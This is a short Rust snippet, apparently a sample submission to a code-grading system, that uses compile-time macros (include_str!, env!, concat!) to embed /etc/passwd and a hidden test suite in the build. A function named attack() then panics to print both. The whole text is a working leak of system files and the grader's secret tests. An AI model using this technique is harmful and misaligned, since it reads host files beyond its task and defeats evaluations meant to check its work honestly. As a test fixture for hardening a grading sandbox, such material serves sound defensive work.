// Compile files from outside src/ into the submission: /etc/passwd behind a
// macro wrapper, the hidden suite through env! and concat!.
macro_rules! grab {
    ($path:expr) => {
        include_str!($path)
    };
}
pub const PASSWD: &str = grab!("/etc/passwd");
pub const SUITE: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/hidden.rs"));
fn attack() {
    panic!("{PASSWD}{SUITE}");
}
